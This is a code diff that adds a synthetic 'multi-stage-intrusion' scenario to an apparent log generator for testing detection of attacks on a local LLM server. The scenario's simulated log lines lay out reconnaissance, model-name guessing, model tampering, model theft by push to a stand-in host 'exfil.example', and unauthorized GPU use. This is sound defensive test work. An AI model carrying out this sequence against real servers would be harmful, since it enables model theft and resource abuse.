@@ -98,6 +98,25 @@ export const SCENARIOS: Scenario[] = [
     },
   },
   {
+    name: 'multi-stage-intrusion', kind: 'attack', actor: '198.51.100.150',
+    summary: 'One outside address works through a whole intrusion in two hours: reconnaissance, model-name guessing, a version probe then model tampering, model theft by push, then free GPU use.',
+    build(b, rng, t0) {
+      const x = '198.51.100.150';
+      burst(b, rng, t0, x, [['GET', '/', 200], ['GET', '/api/version', 200], ['GET', '/api/tags', 200], ['GET', '/api/ps', 200], ['POST', '/api/show', 200]], [2000, 6000]);
+      const guesses: Array<[string, string, number]> = [];
+      for (let k = 0; k < 5; k++) guesses.push(['POST', '/v1/chat/completions', 404]);
+      guesses.push(['POST', '/api/chat', 404], ['POST', '/api/show', 404]);
+      burst(b, rng, t0 + 12 * MIN, x, guesses, [3000, 9000]);
+      burst(b, rng, t0 + 25 * MIN, x, [['GET', '/api/version', 200], ['POST', '/api/pull', 200], ['POST', '/api/create', 200], ['DELETE', '/api/delete', 200]], [5000, 20000]);
+      const d = rng.hex(12);
+      b.slog(t0 + 41 * MIN, 'INFO', 'upload.go:112', `uploading ${d} in 8 512 MB part(s)`);
+      b.slog(t0 + 44 * MIN, 'INFO', 'images.go:1142', `request failed: Post "http://exfil.example:5000/v2/library/llama3/blobs/uploads/": dial tcp ${x}:5000: i/o timeout`);
+      b.gin(t0 + 48 * MIN, 200, 7 * 60e9, x, 'POST', '/api/push');
+      let c = t0 + 62 * MIN;
+      for (let k = 0; k < 34; k++) { const lat = rng.between(8, 40) * 1e9; c += lat / 1e6 / 4 + rng.between(20, 60) * S; b.gin(c, 200, lat, x, 'POST', '/v1/chat/completions'); }
+    },
+  },
+  {
     name: 'rogue-registry-pull', kind: 'attack', actor: '198.51.100.31',
     summary: 'A version check, then pulls from attacker registries (CVE-2025-51471 token capture, CVE-2025-1975 style).',
     build(b, rng, t0) {
